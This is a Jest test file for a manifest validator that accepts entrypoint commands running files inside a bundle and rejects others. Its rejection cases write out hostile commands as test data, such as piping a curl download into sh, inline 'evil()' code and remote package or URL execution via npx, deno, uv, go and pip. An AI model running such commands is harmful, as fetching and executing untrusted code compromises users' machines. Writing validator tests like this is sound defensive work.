import { describe, expect, it } from '@jest/globals';
import { startsBundle } from './foreign-manifest.js';

const LAYOUT = new Set([
  'dist/index.js',
  'bin/server',
  'files/__main__.py',
  'src/other.py',
  'cmd/server/main.go',
  'main.go',
]);
/** Names that mean something else on a command line. */
const MISLEADING = new Set([
  'sh',
  'node',
  'x',
  'tool',
  'task',
  'curl',
  'https://example.com/evil.ts',
  'https:/example.com/evil.ts',
  'npm:evil',
  'example.com/evil@latest',
  'runpy.py',
  'src/pip/__main__.py',
  'index.js',
]);
const starting = (...command: unknown[]): unknown => ({ entrypoint: { command } });

describe('a manifest that the hub did not write', () => {
  it.each([
    ['an interpreter with a file', starting('node', 'dist/index.js', '--stdio')],
    ['a relative path', starting('node', './dist/index.js')],
    ['a program of the bundle', starting('bin/server')],
    ['a module', starting('python3', '-m', 'files')],
    ['a file by uv', starting('uv', 'run', 'src/other.py')],
    ['a file by uv and Python', starting('uv', 'run', 'python', './src/other.py')],
    ['a file by Bun', starting('bun', 'run', 'dist/index.js')],
    ['a file by Deno', starting('deno', 'dist/index.js')],
    ['a Go program', starting('go', 'run', './cmd/server')],
    ['the Go program of the root', starting('go', 'run', './')],
    ['a Go file', starting('go', 'run', 'main.go')],
    ['a file without an extension', starting('node', 'bin/server')],
    ['nothing', { entrypoint: {} }],
    ['nothing, without an entry point', {}],
  ])('may start %s', (_what, manifest) => {
    expect(startsBundle(manifest, LAYOUT)).toBe(true);
  });

  it.each([
    ['a shell', starting('sh', '-c', 'node dist/index.js')],
    ['a downloaded package', starting('npx', '-y', 'other')],
    ['inline code', starting('node', '-e', 'evil()', 'dist/index.js')],
    ['code that an option loads', starting('node', '--import=data:text/javascript,evil()', 'dist/index.js')],
    ['a file outside', starting('node', '../index.js')],
    ['a file of the machine', starting('/usr/bin/env', 'node')],
    ['a missing file', starting('node', 'index.js')],
    ['a missing module', starting('python3', '-m', 'http.server')],
    ['a broken command', starting('node', 1)],
    ['no list', { entrypoint: { command: 'node dist/index.js' } }],
    ['an empty list', starting()],
    ['a module that only an installation finds', starting('python', '-m', 'other')],
    ['a text as entry point', { entrypoint: 'dist/index.js' }],
    ['what is no object', ['entrypoint']],
    ['another spelling of the entry point', { Entrypoint: { command: ['sh', '-c', 'evil'] } }],
    ['another spelling of the command', { entrypoint: { Command: ['sh', '-c', 'evil'] } }],
    ['a Go module', starting('go', 'run', 'cmd/server')],
    ['a Go program outside', starting('go', 'run', './../server')],
  ])('may not start %s', (_what, manifest) => {
    expect(startsBundle(manifest, LAYOUT)).toBe(false);
  });
});

describe('files of a bundle with misleading names', () => {
  it.each([
    ['a program of the machine', starting('sh', '-c', 'curl https://example.com | sh')],
    ['an interpreter of the machine', starting('node', '-e', 'evil()')],
    ['a package that Bun downloads', starting('bun', 'x', 'evil')],
    ['a tool that uv downloads', starting('uv', 'tool', 'run', 'evil')],
    ['a program that uv finds', starting('uv', 'run', 'curl', 'https://example.com')],
    ['a task of Deno', starting('deno', 'task', 'evil')],
    ['an address', starting('deno', 'run', 'https://example.com/evil.ts')],
    ['an address with one slash', starting('deno', 'run', 'https:/example.com/evil.ts')],
    ['a package by its address', starting('deno', 'run', 'npm:evil')],
    ['a module that Go downloads', starting('go', 'run', 'example.com/evil@latest')],
    ['a module that Python has frozen', starting('python3', '-m', 'runpy', 'pip', 'install', 'evil')],
    ['a module that is elsewhere, too', starting('python3', '-m', 'pip', 'install', 'evil')],
    ['what uv does not run', starting('uv', 'index.js')],
  ])('are not what is started by %s', (_what, manifest) => {
    expect(startsBundle(manifest, MISLEADING)).toBe(false);
  });
});
